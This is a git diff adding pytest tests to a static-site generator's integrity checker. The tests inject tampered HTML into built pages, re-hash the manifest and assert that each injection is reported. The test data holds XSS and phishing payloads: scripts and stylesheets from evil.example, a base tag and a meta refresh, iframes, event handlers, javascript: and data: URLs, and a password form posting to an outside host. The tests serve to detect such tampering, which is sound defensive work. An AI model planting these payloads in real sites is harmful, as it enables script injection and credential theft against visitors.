@@ -13,7 +13,7 @@ from conftest import REPO, digest_text, run_cli, write_files
 from paperdigest.build import BuildOptions, build
 from paperdigest.check import check_site
 from paperdigest.cli import make_parser
-from paperdigest.manifest import MANIFEST
+from paperdigest.manifest import MANIFEST, file_hash
 from test_config import REFUSED_BASE_URLS
 
 CONTENT = {
@@ -99,6 +99,114 @@ def test_missing_search_bundle_is_a_problem(site: Path) -> None:
     shutil.rmtree(site / "pagefind")
     problems = check_site(site).problems
     assert any(p.endswith("no search bundle at /repo/pagefind/") for p in problems)
+
+
+def inject(site: Path, relative: str, before: str, html: str) -> int:
+    """Add HTML to a built file, manifest hash and all, as an attacker would; return its line."""
+    path = site / relative
+    text = path.read_text()
+    assert before in text
+    text = text.replace(before, html + before, 1)
+    path.write_text(text)
+    manifest = json.loads((site / MANIFEST).read_text())
+    manifest["files"][relative] = file_hash(text.encode())
+    (site / MANIFEST).write_text(json.dumps(manifest))
+    return text[: text.index(html)].count("\n") + 1
+
+
+EVIL = "https://evil.example"
+OWN_SCRIPT = "/repo/assets/search.js"
+
+
+@pytest.mark.parametrize(
+    ("before", "html", "problems"),
+    [
+        ("</head>", "<script>alert(1)</script>", ["inline script"]),
+        ("</head>", f'<script src="{OWN_SCRIPT}">alert(1)</script>', ["inline script"]),
+        (
+            "</head>",
+            f'<script src="{EVIL}/x.js"></script>',
+            [f"a script that is not the site's own: {EVIL}/x.js"],
+        ),
+        (
+            "</head>",
+            '<script src="/repo/pagefind/pagefind.js"></script>',
+            ["a script that is not the site's own: /repo/pagefind/pagefind.js"],
+        ),
+        (
+            "</head>",
+            f'<link rel="stylesheet" href="{EVIL}/x.css">',
+            [f"a stylesheet that is not the site's own: {EVIL}/x.css"],
+        ),
+        (
+            "</head>",
+            f'<link rel="prefetch" href="{EVIL}/x.js">',
+            ["<link rel='prefetch'> is not one the templates use"],
+        ),
+        ("</head>", f'<base href="{EVIL}/">', ["<base> is not an element the templates produce"]),
+        (
+            "</head>",
+            f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
+            ["<meta http-equiv='refresh'>: not an attribute the templates use"],
+        ),
+        (
+            "</head>",
+            "<style>body{display:none}</style>",
+            ["<style> is not an element the templates produce"],
+        ),
+        (
+            "</main>",
+            f'<iframe src="{EVIL}/"></iframe>',
+            ["<iframe> is not an element the templates produce"],
+        ),
+        (
+            "</main>",
+            f'<object data="{EVIL}/x"></object>',
+            ["<object> is not an element the templates produce"],
+        ),
+        ("</main>", f'<embed src="{EVIL}/x">', ["<embed> is not an element the templates produce"]),
+        (
+            "</main>",
+            '<svg onload="alert(1)"></svg>',
+            ["<svg> is not an element the templates produce"],
+        ),
+        (
+            "</main>",
+            '<p onmouseover="steal()">Hi</p>',
+            ["<p onmouseover='steal()'>: an event handler"],
+        ),
+        (
+            "</main>",
+            '<p style="display:none">Hi</p>',
+            ["<p style='display:none'>: not an attribute the templates use"],
+        ),
+        (
+            "</main>",
+            '<a href="javascript:alert(1)">x</a>',
+            ["a with a javascript: URL: javascript:alert(1)"],
+        ),
+        (
+            "</main>",
+            '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
+            ["a with a data: URL: data:text/html,<script>alert(1)</script>"],
+        ),
+        (
+            "</main>",
+            f'<form action="{EVIL}/login"><input name="password"></form>',
+            [f"form to outside the site: {EVIL}/login"],
+        ),
+    ],
+)
+def test_content_added_after_the_build_is_named(
+    site: Path, before: str, html: str, problems: list[str]
+) -> None:
+    line = inject(site, "search/index.html", before, html)
+    assert check_site(site).problems == [f"search/index.html: line {line}: {p}" for p in problems]
+
+
+def test_html_in_the_feeds_channel_title_is_a_problem(site: Path) -> None:
+    inject(site, "feed.xml", "Paper digest</title>", "&lt;img src=x onerror=alert(1)&gt; ")
+    assert check_site(site).problems == ["feed.xml: HTML in the channel title"]
 
 
 def test_cli_lists_problems_and_exits_1(site: Path) -> None:
